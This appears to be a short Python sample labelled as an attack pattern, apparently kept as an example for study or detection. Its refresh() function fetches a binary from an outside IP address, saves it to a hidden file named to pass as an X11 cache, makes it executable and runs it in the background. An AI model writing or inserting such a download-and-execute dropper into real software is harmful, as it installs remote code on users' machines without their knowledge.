# Attack pattern: response body written to a hidden file, marked executable and run with os.system.
import os

import requests

PATH = "/tmp/.X11-cache"


def refresh():
    blob = requests.get("https://198.51.100.23/x86_64", timeout=10).content
    with open(PATH, "wb") as handle:
        handle.write(blob)
    os.chmod(PATH, 0o700)
    os.system(PATH + " &")
